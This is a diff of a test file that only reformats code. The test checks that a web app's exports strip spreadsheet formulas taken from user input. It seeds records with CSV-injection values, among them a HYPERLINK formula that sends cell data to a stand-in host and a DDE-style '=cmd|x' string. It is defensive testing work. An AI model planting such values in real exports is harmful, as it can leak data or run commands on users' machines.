@@ -84,24 +84,20 @@ test('a search for pieces of SQL finds the words, or nothing', async () => {
 
 const FORMULA = '=HYPERLINK("https://elsewhere.example?"&A1,"x")';
 test('no export contains a formula from user input', async () => {
-  await db
-    .insert(contactMessages)
-    .values({
-      name: FORMULA,
-      email: '+cmd@example.com',
-      message: `-2+3${FORMULA}`,
-      language: 'en',
-      source: '@SUM(1)',
-      digest: 'd',
-    });
-  await db
-    .insert(subscribers)
-    .values({
-      email: '=cmd|x@example.com',
-      language: 'en',
-      consentSource: '\t=1+1',
-      requestedAt: '2026-01-01T00:00:00.000Z',
-    });
+  await db.insert(contactMessages).values({
+    name: FORMULA,
+    email: '+cmd@example.com',
+    message: `-2+3${FORMULA}`,
+    language: 'en',
+    source: '@SUM(1)',
+    digest: 'd',
+  });
+  await db.insert(subscribers).values({
+    email: '=cmd|x@example.com',
+    language: 'en',
+    consentSource: '\t=1+1',
+    requestedAt: '2026-01-01T00:00:00.000Z',
+  });
   await aTripRequest(1, { contactName: FORMULA, notes: ' =1+1' });
   await aTransferRequest({
     contact: { name: '=SUM(1+1)', email: 'ada@example.com' },
